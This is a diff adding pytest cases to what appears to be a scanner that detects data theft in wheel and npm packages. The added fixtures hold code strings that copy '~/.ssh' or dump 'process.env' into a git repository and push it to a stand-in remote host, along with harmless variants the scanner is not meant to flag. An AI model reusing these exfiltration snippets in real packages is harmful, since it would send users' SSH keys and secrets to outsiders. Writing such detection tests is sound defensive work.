@@ -72,3 +72,32 @@ def test_whoever_calls_may_hand_on_what_he_wants(form: str) -> None:
 def test_a_module_of_the_artifact_is_no_library() -> None:
     files = {"sample/__init__.py": HEAD + "unheard_of.tell(str(ALL))", "unheard_of/x.py": "A = 1\n"}
     assert not [one for one in program_of("wheel", files).flows if one.act is Act.HAND]
+
+
+REPOSITORY = """
+import os, shutil
+from git import Repo
+shutil.copytree({what}, '/tmp/kept/s')
+Repo.init('/tmp/kept').create_remote('o', 'https://u@c.example.invalid/r').{how}('HEAD')
+"""
+SCRIPT = """
+require('fs').writeFileSync('/tmp/kept/e', {what});
+require('simple-git')('/tmp/kept').add('.').commit('x').{how}('https://u@c.example.invalid/r', 'main');
+"""
+HOME = "os.path.expanduser('~/.ssh')"
+
+
+@pytest.mark.parametrize(
+    ("what", "how", "form", "sent"),
+    [
+        (HOME, "push", "wheel", True),
+        (HOME, "fetch", "wheel", False),
+        ("'docs'", "push", "wheel", False),
+        ("JSON.stringify(process.env)", "push", "npm", True),
+        ("JSON.stringify(process.env)", "pull", "npm", False),
+        ("'x'", "push", "npm", False),
+    ],
+)
+def test_a_repository_that_loot_was_put_into(what: str, how: str, form: str, sent: bool) -> None:
+    text = (SCRIPT if form == "npm" else REPOSITORY).format(what=what, how=how)
+    assert any(one.target for one in flows(text, Act.SEND, form)) is sent
